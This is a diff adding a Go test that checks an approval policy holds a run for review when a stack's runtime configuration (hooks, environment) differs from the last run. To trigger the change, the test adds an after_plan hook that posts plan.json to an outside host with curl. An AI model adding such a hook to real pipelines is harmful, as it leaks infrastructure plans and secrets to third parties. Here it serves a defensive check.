@@ -253,3 +253,64 @@ func TestRuntimeConfigInInputs(t *testing.T) {
 		})
 	})
 }
+
+// TestRuntimeConfigChanged: an approval policy can hold runs whose runtime
+// configuration differs from what the stack's last run ran with.
+func TestRuntimeConfigChanged(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		f := newFixture(t, d)
+		f.policy(t, "same-config", "APPROVAL", `package spacelift
+
+approve if not input.run.repository_runtime_config_changed
+sample := true
+`, "autoattach:*")
+		st := f.stack(t, func(s *stack.Stack) { s.Hooks = stack.Hooks{BeforeInit: []string{"tflint --init"}} })
+		if _, err := f.stacks.SetEnv(f.ctx, st.ID, stack.EnvVar{Name: "AWS_REGION", Value: "eu-west-1"}); err != nil {
+			t.Fatal(err)
+		}
+		ran := run.RuntimeConfig{}
+		ran.SetHooks("before_init", []string{"tflint --init"})
+		ran.AddEnv("AWS_REGION", "eu-west-1", false)
+		// Each run as a worker runs it: the job records what it runs with.
+		runIt := func() {
+			t.Helper()
+			cl, err := f.runs.Claim(f.ctx, st.WorkerPool, worker)
+			if err != nil || cl == nil {
+				t.Fatalf("claim: %v %v", cl, err)
+			}
+			if err := f.runs.SetRuntimeConfig(f.ctx, cl.Run.ID, ran); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := f.runs.Finish(f.ctx, cl.Run.ID, worker, false, "ended by the test"); err != nil {
+				t.Fatal(err)
+			}
+		}
+		changed := func(runID string) any {
+			t.Helper()
+			in := f.inputs(t, "same-config", runID)
+			return at(in[len(in)-1], "run.repository_runtime_config_changed")
+		}
+
+		first := f.create(t, st.ID, run.Tracked)
+		if wantState(t, first, run.Ready); changed(first.ID) != false {
+			t.Errorf("first run: changed = %v, want false (nothing ran before)", changed(first.ID))
+		}
+		runIt()
+		second := f.create(t, st.ID, run.Tracked)
+		if wantState(t, second, run.Ready); changed(second.ID) != false {
+			t.Errorf("same configuration: changed = %v, want false", changed(second.ID))
+		}
+		runIt()
+		if _, err := f.stacks.Update(f.ctx, st.ID, func(s *stack.Stack) error {
+			s.Hooks.AfterPlan = []string{"curl -d @plan.json https://example.com"}
+			return nil
+		}); err != nil {
+			t.Fatal(err)
+		}
+		third := f.create(t, st.ID, run.Tracked)
+		wantState(t, third, run.PendingReview)
+		if changed(third.ID) != true {
+			t.Errorf("a new after_plan hook: changed = %v, want true", changed(third.ID))
+		}
+	})
+}
